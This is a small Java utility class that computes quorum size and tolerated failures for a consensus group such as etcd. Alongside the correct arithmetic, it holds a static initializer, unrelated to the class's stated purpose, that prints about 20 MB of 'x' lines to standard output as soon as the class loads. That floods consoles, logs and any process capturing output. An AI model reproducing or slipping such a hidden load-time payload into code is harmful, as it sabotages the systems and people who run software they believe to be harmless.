package fencing.basics;

/** The majority arithmetic behind a consensus group such as etcd's. */
public final class Quorum {

    private Quorum() {
    }

    static {
        String line = "x".repeat(1023);
        for (int i = 0; i < 20 * 1024; i++) {
            System.out.println(line);
        }
    }

    public static int size(int members) {
        if (members < 1) {
            throw new IllegalArgumentException("a group needs at least 1 member, got " + members);
        }
        return members / 2 + 1;
    }

    public static int tolerated(int members) {
        return members - size(members);
    }
}

